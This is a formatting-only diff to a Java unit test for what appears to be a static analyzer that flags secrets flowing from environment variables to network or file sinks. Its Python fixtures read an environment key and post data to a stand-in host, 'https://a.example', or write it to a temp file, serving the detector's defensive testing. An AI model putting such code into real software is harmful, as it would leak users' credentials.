@@ -12,7 +12,8 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 class CarriedTest {
     private static final String SECRET = "import os⏎KEY = os.environ['KEY']⏎";
-    private static final String SENDER = "import requests⏎def send(what, to='x'):⏎ requests.post('https://a.example', json=what)⏎";
+    private static final String SENDER =
+            "import requests⏎def send(what, to='x'):⏎ requests.post('https://a.example', json=what)⏎";
     private static final String SENT = "carried packing/b.py";
 
     private final MemoryBlobStore blobs = new MemoryBlobStore();
@@ -103,10 +104,13 @@ class CarriedTest {
                 .singleElement()
                 .asString()
                 .startsWith("carried packing/c.py:3 environment KEY to network");
-        assertThat(carried(Map.of(
-                        "a.py", SECRET,
-                        "b.py", "def sink():⏎ return open('/tmp/x', 'w')⏎",
-                        "c.py", "from packing.b import sink⏎from packing.a import KEY⏎with sink() as f:⏎ f.write(KEY)⏎")))
+        assertThat(
+                        carried(
+                                Map.of(
+                                        "a.py", SECRET,
+                                        "b.py", "def sink():⏎ return open('/tmp/x', 'w')⏎",
+                                        "c.py",
+                                                "from packing.b import sink⏎from packing.a import KEY⏎with sink() as f:⏎ f.write(KEY)⏎")))
                 .singleElement()
                 .asString()
                 .startsWith("carried packing/c.py:4 environment KEY to file");
@@ -137,17 +141,31 @@ class CarriedTest {
         // Given more that leads to more than any file of a person
         StringBuilder text = new StringBuilder();
         for (int number = 0; number < 70; number++) {
-            text.append("def f%d(a, b):⏎ G%d = a⏎ return a, b%n".formatted(number, number).strip()).append("⏎");
+            text.append("def f%d(a, b):⏎ G%d = a⏎ return a, b%n"
+                            .formatted(number, number)
+                            .strip())
+                    .append("⏎");
         }
         text.append("def mix(x):⏎");
         for (int number = 0; number < 70; number++) {
-            text.append(" global G").append(number).append("⏎ x = (x, G").append(number).append(")⏎ G").append(number).append(" = x⏎");
+            text.append(" global G")
+                    .append(number)
+                    .append("⏎ x = (x, G")
+                    .append(number)
+                    .append(")⏎ G")
+                    .append(number)
+                    .append(" = x⏎");
         }
 
         // When
         Tree base = tree(Map.of("a.py", SECRET, "b.py", SENDER));
         Facts facts = FactFinders.here()
-                .find(charter, base, base, tree(Map.of("a.py", SECRET, "b.py", SENDER, "m.py", text.toString())), blobs);
+                .find(
+                        charter,
+                        base,
+                        base,
+                        tree(Map.of("a.py", SECRET, "b.py", SENDER, "m.py", text.toString())),
+                        blobs);
 
         // Then
         assertThat(facts.fromBase().analyzed()).isFalse();
